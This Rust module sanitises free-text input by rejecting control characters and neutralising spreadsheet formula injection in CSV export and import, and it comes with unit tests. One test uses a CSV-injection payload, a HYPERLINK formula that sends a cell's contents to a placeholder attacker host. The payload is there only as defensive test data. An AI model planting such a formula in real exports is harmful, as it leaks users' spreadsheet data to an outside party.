//! Rules for free text that people type: which characters a stored text may
//! hold, and how a text travels safely through a spreadsheet (CSV export and
//! import).

use std::borrow::Cow;

/// A control character that a stored text must not hold: NUL and the other
/// C0 and C1 controls, DEL, and the Unicode line and paragraph separators.
/// Multi-line texts (notes, descriptions) may hold tabs and line breaks
/// (`\n`, `\r`); one-line texts (names, codes, addresses) may not.
pub fn forbidden_char(value: &str, multiline: bool) -> Option<char> {
    value.chars().find(|&c| {
        let allowed_break = multiline && matches!(c, '\t' | '\n' | '\r');
        !allowed_break && (c.is_control() || matches!(c, '\u{2028}' | '\u{2029}'))
    })
}

/// How a refused character is named to the person who typed it.
pub fn describe_char(c: char) -> String {
    match c {
        '\0' => "the NUL character".to_string(),
        '\t' => "a tab".to_string(),
        '\n' | '\r' | '\u{2028}' | '\u{2029}' => "a line break".to_string(),
        c => format!("the control character U+{:04X}", u32::from(c)),
    }
}

/// The first characters that make a spreadsheet program (Excel, LibreOffice,
/// Google Sheets) read a cell as a formula, as OWASP's "CSV Injection" lists
/// them.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn starts_formula(value: &str) -> bool {
    value.starts_with(FORMULA_STARTS)
}

/// A text as it goes into an exported CSV cell: a value that a spreadsheet
/// would run as a formula (`=HYPERLINK(...)`, but also a phone `+62...`) gets
/// a leading single quote, which makes the spreadsheet show it as text. A
/// value that itself starts with a quote gets one more, so that
/// [`from_spreadsheet`] gives every value back exactly.
pub fn to_spreadsheet(value: &str) -> Cow<'_, str> {
    if starts_formula(value) || value.starts_with('\'') {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// A CSV cell as read back by an import: the one leading quote that
/// [`to_spreadsheet`] added is removed. A quote that is not followed by a
/// formula character or another quote belongs to the value and stays.
pub fn from_spreadsheet(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if starts_formula(rest) || rest.starts_with('\'') => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn one_line_texts_refuse_control_characters() {
        assert_eq!(forbidden_char("Budi Santoso", false), None);
        assert_eq!(forbidden_char("Jl. Dago No. 8 — Coblong", false), None);
        assert_eq!(forbidden_char("Budi\0", false), Some('\0'));
        assert_eq!(forbidden_char("a\tb", false), Some('\t'));
        assert_eq!(forbidden_char("a\nb", false), Some('\n'));
        assert_eq!(forbidden_char("a\u{7f}b", false), Some('\u{7f}'));
        assert_eq!(forbidden_char("a\u{85}b", false), Some('\u{85}'));
        assert_eq!(forbidden_char("a\u{2028}b", false), Some('\u{2028}'));
        assert_eq!(forbidden_char("a\u{1b}[31m", false), Some('\u{1b}'));
    }

    #[test]
    fn multi_line_texts_keep_tabs_and_line_breaks_only() {
        assert_eq!(forbidden_char("baris satu\r\nbaris\tdua", true), None);
        assert_eq!(forbidden_char("catatan\0", true), Some('\0'));
        assert_eq!(forbidden_char("bel \u{7}", true), Some('\u{7}'));
        assert_eq!(describe_char('\0'), "the NUL character");
        assert_eq!(describe_char('\u{1b}'), "the control character U+001B");
    }

    #[test]
    fn formulas_are_neutralised_for_spreadsheets() {
        let attack = r#"=HYPERLINK("http://evil.example/?d="&B2,"Klik")"#;
        assert_eq!(to_spreadsheet(attack), format!("'{attack}"));
        for v in ["+6281234567890", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"] {
            assert_eq!(to_spreadsheet(v), format!("'{v}"), "{v:?}");
        }
        for v in ["Budi Santoso", "PLG-0000001", "", "6.2", "a=b"] {
            assert_eq!(to_spreadsheet(v), v, "{v:?}");
        }
    }

    #[test]
    fn every_value_comes_back_from_a_spreadsheet_unchanged() {
        for v in [
            r#"=HYPERLINK("http://evil.example/?d="&B2,"Klik")"#,
            "+6281234567890",
            "-",
            "@",
            "'",
            "''",
            "'=1+1",
            "'quoted'",
            "''=x",
            "plain",
            "",
            "\t",
        ] {
            assert_eq!(from_spreadsheet(&to_spreadsheet(v)), v, "{v:?}");
        }
    }

    #[test]
    fn hand_made_cells_keep_their_quotes() {
        // Typed into a spreadsheet, not written by an export.
        assert_eq!(from_spreadsheet("'Jl. Dago"), "'Jl. Dago");
        assert_eq!(from_spreadsheet("Rumah 'Pak Budi'"), "Rumah 'Pak Budi'");
        assert_eq!(from_spreadsheet("'+62812"), "+62812");
        assert_eq!(from_spreadsheet("'"), "'");
    }
}
